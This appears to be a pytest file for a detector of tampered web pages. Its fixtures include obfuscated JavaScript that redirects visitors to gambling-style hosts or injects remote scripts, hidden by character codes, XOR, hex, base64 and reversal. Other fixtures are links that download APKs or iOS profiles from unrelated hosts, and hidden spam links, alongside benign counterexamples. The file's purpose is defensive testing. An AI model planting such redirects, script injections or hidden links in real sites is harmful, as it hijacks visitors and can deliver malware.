"""Code that hides where it leads, links that fetch programs, and hidden links that belong to old menus."""

import base64

import pytest

from gongkai.reading.tampering import check_page
from tests.reading.tampering import offers
from tests.reading.tampering.test_who_speaks import in_frame

AWAY = "https://m.qx77bet.vip/"
TAG = "<script src='//js.tongji-cdn8.com/a.js'></script>"


def numbers(text: str, by: int = 0, sign: str = ",") -> str:
    return sign.join(str(ord(letter) + by) for letter in text)


def escaped(text: str) -> str:
    return "".join(f"\\x{ord(letter):02x}" for letter in text)


def with_code(code: str) -> str:
    return in_frame(offers.ORDINARY[0], foot=f"<script>{code}</script>")


def with_link(link: str) -> str:
    return in_frame(offers.ORDINARY[0].replace("通知如下。", f"通知如下。{link}", 1))


@pytest.mark.parametrize(
    ("code", "quoted"),
    [
        (
            f"var a=[{numbers(AWAY)}],s='';for(i in a)s+=String.fromCharCode(a[i]);location.href=s;",
            "104,116",
        ),
        (
            f"var a='{numbers(AWAY, sign='|')}'.split('|'),s='';for(i in a)s+=String.fromCharCode(a[i]);location=s",
            "104|116",
        ),
        (
            f"var a=[{numbers(AWAY, 7)}],s='';for(i in a)s+=String.fromCharCode(a[i]-7);top.location=s",
            "111,123",
        ),
        (
            (
                f"var a=[{','.join(str(ord(c) ^ 5) for c in AWAY)}].map(function(c){{return String.fromCharCode(c^5)}});"
                "location.assign(a.join(''))"
            ),
            "109,113",
        ),
        (f"document.write(String.fromCharCode({numbers(TAG)}))", "String.fromCharCode(60,115"),
        (
            (
                f"var e=document.createElement('script');e.src=String.fromCharCode({numbers('//cdn.tj88pic.com/z.js')});"
                "document.body.appendChild(e)"
            ),
            "String.fromCharCode(47,47",
        ),
        (f"document['{escaped('write')}']('{escaped(TAG)}')", "\\x3c\\x73"),
        (f"window['{escaped('location')}']['href']='{escaped(AWAY)}'", "\\x68\\x74"),
        (
            (
                "if(/mobile/.test(navigator.userAgent)){"
                "document['\\x77rite'](\"\\x3c\\x73cript src=\\x27//st.lw7-live.net/x.js\\x27\\x3e\")}"
            ),
            "st.lw7-live.net",
        ),
        (
            "eval(decodeURIComponent('"
            + "".join(f"%{ord(c):02x}" for c in f'document.write("{TAG}")')
            + "'))",
            "%64%6f",
        ),
        (
            "var h='piv.teb77xq.m//:sptth'.split('').reverse().join('');if(/baidu/.test(document.referrer))location.href=h",
            "piv.teb77xq",
        ),
        ("var h='h@t@t@p@s@:@/@/@m.qx77bet.vip'.replace(/@/g,'');location.href=h", "h@t@t"),
        (f"var d=atob('{base64.b64encode(AWAY.encode()).decode()}');location.href=d", "aHR0"),
        (
            (
                f"var x='{AWAY.encode().hex()}',r='';"
                "for(var i=0;i<x.length;i+=2)r+=String.fromCharCode(parseInt(x.substr(i,2),16));location=r"
            ),
            "687474",
        ),
        ("var t=document;t.write('<script src=//www.yule-tj.vip/a.js><\\/script>')", "yule-tj.vip"),
    ],
)
def test_an_address_that_code_hides_is_found_where_it_is_written(code: str, quoted: str) -> None:
    source = with_code(code)
    found = check_page(source)
    assert found.tampered
    assert any(quoted in piece.quote and piece.quote in source for piece in found.evidence)


@pytest.mark.parametrize(
    "code",
    [
        "var colours=[255,128,64,32,16,8,4,2,1,0,45];function c(i){return String.fromCharCode(65+i)}",
        "var lunar=[0x04bd8,0x04ae0,0x0a570,0x054d5,0x0d260,0x0d950,0x16554];document.write(lunar.length)",
        "var days=['\\u661f\\u671f\\u65e5','\\u661f\\u671f\\u4e00'];document.write(days[new Date().getDay()])",
        "var key=[77,73,73,66,73,106,65,78],s='';for(i in key){s+=String.fromCharCode(key[i])}document.forms[0].submit();",
        "var picture='iVBORw0KGgoAAAANSUhEUgAAAAUA';document.images[0].src='data:image/png;base64,'+picture;",
        "$('#v').html('\\x3cobject data=\\x22http://v.qinghetv.com/1.swf\\x22\\x3e\\x3c/object\\x3e')",
        "document.write(unescape(\"%3Cscript src='http://pv.sohu.com/cityjson'%3E%3C/script%3E\"));",
        "document.write('<scr'+'ipt src=\"/js/a.js\"></scr'+'ipt>');",
    ],
)
def test_what_honest_code_writes_in_numbers_and_escapes_is_left_alone(code: str) -> None:
    assert not check_page(with_code(code)).tampered


@pytest.mark.parametrize(
    ("link", "host"),
    [
        ('<a href="http://down.kyqp88.top/app.apk">安卓版下载</a>', "kyqp88"),
        ('<a href="https://app.bty-9k.xyz/ios.mobileconfig">苹果版下载</a>', "bty-9k"),
        ('<a href="http://dl.fh-jackpot.com/fh.apk">客户端</a>', "fh-jackpot"),
        (
            '<a href="itms-services://?action=download-manifest&url=https://ipa.qp365x.com/m.plist">安装</a>',
            "qp365x",
        ),
        ("<a href=\"javascript:location.href='http://www.yl7799.vip'\">附件下载</a>", "yl7799"),
        ('<a href="#" onclick="window.open(\'http://www.bet7799.vip\')">附件下载</a>', "bet7799"),
    ],
)
def test_a_link_that_fetches_from_a_host_of_nobody_is_found(link: str, host: str) -> None:
    found = check_page(with_link(link))
    assert found.tampered
    assert any(host in piece.quote for piece in found.evidence)


@pytest.mark.parametrize(
    "link",
    [
        '<a href="https://app.qinghe.gov.cn/qht.apk">安卓版下载</a>',
        '<a href="https://qht.oss-cn-hangzhou.aliyuncs.com/qht_1.2.apk">安卓下载</a>',
        '<a href="http://www.qinghecloud.com/download/qht.apk">清河通安卓版</a>',
        "<a href=\"javascript:window.open('http://www.12306.cn')\">火车票</a>",
        '<a href="http://www.46644.com/">手机归属</a> <a href="http://www.5566.net/gj.htm">公交查询</a>',
    ],
)
def test_a_link_to_a_program_of_the_house_or_to_what_people_look_up_is_left_alone(link: str) -> None:
    assert not check_page(with_link(link)).tampered


@pytest.mark.parametrize(
    "menu",
    [
        '<ul style="display:none"><li><a href="/a/">领导之窗</a></li><li><a href="http://www.qhxw.com/">清河新闻</a></li></ul>',
        '<div style="display:none"><a href="http://www.hebei.gov.cn">省政府</a><a href="http://www.qhtour.com.cn">清河旅游</a></div>',
        '<div style="display:none"><a href="http://www.foundersoft.com">方正软件</a><a href="/index.html">首页</a></div>',
        '<style>.logo a{text-indent:-9999px;background:url(/l.png)}</style><div class="logo"><a href="/">清河在线</a></div>',
    ],
)
def test_a_hidden_menu_of_the_house_is_left_alone(menu: str) -> None:
    assert not check_page(in_frame(offers.ORDINARY[0], foot=menu)).tampered


@pytest.mark.parametrize(
    ("planted", "words"),
    [
        ('<div style="display:none"><a href="http://www.mokawine.com">摩卡红酒</a></div>', "摩卡红酒"),
        (
            '<ul style="display:none"><li><a href="/a/">领导</a></li></ul><p hidden><a href="http://www.hxjjw.com/">鸿星家居</a></p>',
            "鸿星家居",
        ),
        (
            '<div style="display:none"><a href="http://www.hy-qp.com">欢乐棋牌</a><a href="http://www.gov.cn">中国政府网</a></div>',
            "欢乐棋牌",
        ),
    ],
)
def test_a_planted_hidden_link_beside_a_menu_is_found(planted: str, words: str) -> None:
    found = check_page(in_frame(offers.ORDINARY[0], foot=planted))
    assert found.tampered
    assert any(words in piece.quote for piece in found.evidence)
